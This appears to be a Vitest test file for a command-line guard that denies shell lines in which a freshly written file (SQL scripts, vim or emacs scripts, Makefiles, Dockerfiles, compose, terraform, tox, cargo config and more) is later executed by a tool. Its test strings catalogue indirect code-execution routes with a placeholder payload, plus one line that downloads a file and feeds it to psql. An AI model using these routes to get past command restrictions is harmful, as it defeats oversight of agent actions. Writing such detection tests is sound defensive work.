import { describe, expect, it } from 'vitest';
import { verdict } from './denying.ts';

describe('a written file that a command names in what it reads, or that another one names', () => {
  it.each([
    `echo '\\! evil' > f; echo '\\i f' | psql`,
    `echo '\\! evil' > f; psql <<< '\\i f'`,
    `echo '\\! evil' > f; echo '\\i f' > g; psql -f g`,
    `echo '.shell evil' > f; echo '.read f' > g; sqlite3 db < g`,
    "echo 'system evil' > f; echo 'source f' | mysql",
    "echo 'shell evil x' > s; gdb -ex 'source s'",
    "echo '!evil x' > s; vim -c 'so s'",
    "echo '!evil x' > s; vim '+so s' +q",
    `echo '(shell-command "evil x")' > s.el; emacs --batch --eval '(load "s.el")'`,
    `echo '(shell-command "evil x")' > s.el; emacs --batch --eval '(load-file "s")'`,
    `echo 'system "evil x"' > s; gnuplot -e 'load "s"'`,
    "echo 'exec evil x' > s; echo 'source s' | tclsh",
    "echo '!evil x' > s; lftp -e 'source s'",
    `echo 'run-shell "evil x"' > c; tmux source-file -q c`,
    "printf 'a:\\n\\tevil x\\n' > m.mk; printf 'include a.mk m.mk\\n' > Makefile; make",
    "printf 'Include c2\\n' > c; printf 'ProxyCommand evil\\n' > c2; ssh -F c h",
    "printf '[include]\\n path = g2\\n' > g1; printf '[core]\\n pager = evil\\n' > g2; git -c include.path=g1 log",
    `echo 'import os; os.system("evil x")' > m.py; echo 'import m' | python3`,
    "echo '\\input{b}' > a.tex; echo '\\write18{evil x}' > b.tex; pdflatex a",
  ])('is in the line: %s', (line) => {
    expect(verdict(line)).toBe('deny');
  });

  it.each([
    `echo '\\! evil' > f; echo 'select 1' | psql`,
    `echo '\\! evil' > f; echo '\\i f' | cat`,
    `echo '\\! evil' > f; echo '\\i f' > g; git add g`,
    "echo '!evil x' > s; vim -c 'so t'",
    "printf 'a:\\n\\tevil x\\n' > m.mk; printf 'include a.mk\\n' > Makefile; make",
  ])('is not where nothing starts it: %s', (line) => {
    expect(verdict(line)).toBe('allow');
  });

  it('asks where another command writes what it holds', () => {
    expect(verdict(`curl -o f https://h/x; echo '\\i f' | psql`)).toBe('approve');
  });

  it('is found at the end of a long chain of them, and in a circle', () => {
    const chain = Array.from({ length: 60 }, (_, at) => `echo include f${at + 1} > f${at};`).join('');
    expect(verdict(`${chain} printf 'a:\\n\\tevil\\n' > f60; make -f f0`)).toBe('deny');
    expect(verdict('echo include b > a; echo include a > b; make -f a')).toBe('allow');
  });
});

describe('what a container is started with', () => {
  it.each([
    "printf 'FROM a\\nCMD evil x\\n' > Dockerfile; docker build -t x . && docker run x",
    `printf 'FROM a\\nENTRYPOINT ["evil","x"]\\n' > Dockerfile; podman build -t x . ; podman run --rm x`,
    "printf 'FROM a\\nHEALTHCHECK --interval=5s CMD evil x\\n' > Dockerfile; docker build . -t x; docker start x",
    "printf 'FROM a\\nRUN evil x\\n' > Dockerfile; docker compose -f c.yml build",
    "printf 'services:\\n  a:\\n    command: evil x\\n' > docker-compose.yml; docker compose up",
    `printf 'services:\\n  a:\\n    command: ["evil","x"]\\n' > c.yml; docker compose -f c.yml up`,
    "printf 'services:\\n  a:\\n    command:\\n      - evil\\n      - x\\n' > compose.yml; docker compose up",
    "printf 'services:\\n  a:\\n    command: |\\n      ls\\n      evil x\\n' > compose.yml; docker compose up",
    `printf 'services:\\n  a:\\n    healthcheck:\\n      test: ["CMD-SHELL", "evil x"]\\n' > compose.yml; docker-compose up -d`,
    "printf 'services:\\n  a:\\n    build:\\n      dockerfile: D\\n' > compose.yml; echo 'RUN evil' > D; docker compose build",
  ])('is in the line: %s', (line) => {
    expect(verdict(line)).toBe('deny');
  });

  it.each([
    "printf 'FROM a\\nCMD evil x\\n' > Dockerfile; docker build -t x .",
    "printf 'services:\\n  a:\\n    command: evil x\\n' > compose.yml; docker compose ps",
    "printf 'services:\\n  evil:\\n    image: evil\\n    command: ls\\n' > compose.yml; docker compose up",
  ])('is not where nothing starts it: %s', (line) => {
    expect(verdict(line)).toBe('allow');
  });
});

describe('settings whose values a tool starts', () => {
  it.each([
    "printf '[testenv]\\ncommands =\\n    ls\\n    evil x\\n' > tox.ini; tox -e py",
    "printf 'rule a\\n  command = evil x\\nbuild b: a\\n' > build.ninja; ninja",
    "printf '[program:a]\\ncommand=evil x\\n' > s.conf; supervisord -c s.conf",
    `printf 'provisioner "local-exec" {\\n command = "evil x"\\n}\\n' > main.tf; terraform apply`,
    `printf 'data "external" "a" {\\n program = ["evil", "x"]\\n}\\n' > main.tf; tofu plan`,
    `printf '[tasks.a]\\nrun = "evil x"\\n' > mise.toml; mise run a`,
    `printf '[tool.poe.tasks]\\na = "evil x"\\n' > pyproject.toml; poe a`,
    `printf '[scripts]\\na = "evil x"\\n' > Pipfile; pipenv run a`,
    `printf '[tool.hatch.envs.default.scripts]\\na = "evil x"\\n' > pyproject.toml; hatch run a`,
    "printf 'stages:\\n  a:\\n    cmd: evil x\\n' > dvc.yaml; dvc repro",
    `printf 'rule a:\\n  shell: "evil x"\\n' > Snakefile; snakemake`,
    "printf 'a:\\n  RUN evil x\\n' > Earthfile; earthly +a",
    `printf '[build]\\nrustc-wrapper = "evil"\\n' > .cargo/config.toml; cargo build`,
    `printf '[tasks.a]\\nscript = "evil x"\\n' > Makefile.toml; cargo make a`,
    "printf 'processes:\\n a:\\n  command: evil x\\n' > process-compose.yaml; process-compose up",
    "printf 'before:\\n  hooks:\\n    - ls\\n    - evil x\\n' > .goreleaser.yaml; goreleaser release",
    "printf 'tasks:\\n a: evil x\\n' > Taskfile.yml; task a",
    "printf 'evil x\\n' > .screenrc; screen",
    `tmux set -g status-right '#(evil x)'`,
  ])('are in the line: %s', (line) => {
    expect(verdict(line)).toBe('deny');
  });

  it.each([
    `printf '[build]\\njobs = 4\\n' > .cargo/config.toml; cargo build`,
    `printf '[tasks.a]\\nscript = "evil x"\\n' > Makefile.toml; cargo build`,
    "printf 'tasks:\\n a:\\n  desc: evil things\\n  cmd: ls\\n' > Taskfile.yml; task a",
    `printf '[scripts]\\na = "evil x"\\n' > Pipfile; pipenv install`,
    "printf '[testenv]\\ndescription = evil\\ncommands = ls\\n' > tox.ini; tox",
  ])('are not where nothing starts them: %s', (line) => {
    expect(verdict(line)).toBe('allow');
  });
});
